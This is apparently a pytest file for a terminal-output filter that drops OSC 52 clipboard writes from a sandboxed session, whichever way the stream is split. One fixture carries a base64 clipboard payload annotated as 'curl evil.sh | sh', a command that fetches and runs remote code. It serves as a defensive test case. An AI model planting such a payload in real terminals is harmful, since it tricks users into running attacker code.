"""A sandboxed session's output relayed less its clipboard writes (executor/terminals/osc.py): OSC 52 dropped with
either terminator, however the reads split it; every other byte (text, CSI, a title's OSC) passes as it came."""

from __future__ import annotations

import pytest

from executor.terminals.osc import ClipboardFilter

SET_CLIPBOARD = b"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "curl evil.sh | sh"
SET_CLIPBOARD_ST = b"\x1b]52;p;Y3VybA==\x1b\\"
KEPT = b"before \x1b[1mbold\x1b[0m \x1b]0;a title\x07 \x1b]8;;https://x\x1b\\link\x1b]8;;\x1b\\ after\x1b"


def _relayed(chunks: list[bytes]) -> bytes:
    f = ClipboardFilter()
    return b"".join(f.feed(c) for c in chunks)


@pytest.mark.parametrize("clip", [SET_CLIPBOARD, SET_CLIPBOARD_ST], ids=["bel", "st"])
def test_a_clipboard_write_is_dropped_wherever_the_reads_split_it(clip: bytes) -> None:
    stream = b"one " + clip + b"two " + clip + b"\x1b[2J three"
    expected = b"one two \x1b[2J three"
    assert _relayed([stream]) == expected
    for cut in range(1, len(stream)):
        assert _relayed([stream[:cut], stream[cut:]]) == expected, cut
    assert _relayed([bytes([b]) for b in stream]) == expected  # a byte a read


def test_everything_else_passes_as_it_came_in_any_split() -> None:
    assert _relayed([KEPT[:-1]]) == KEPT[:-1]
    for cut in range(1, len(KEPT)):
        relayed = _relayed([KEPT[:cut], KEPT[cut:]])
        assert relayed == KEPT[:-1], cut  # a lone ESC at the very end waits for what follows it
    f = ClipboardFilter()
    assert f.feed(b"\x1b") == b"" and f.feed(b"[A") == b"\x1b[A"
    assert ClipboardFilter().feed(b"plain text, no escape") == b"plain text, no escape"
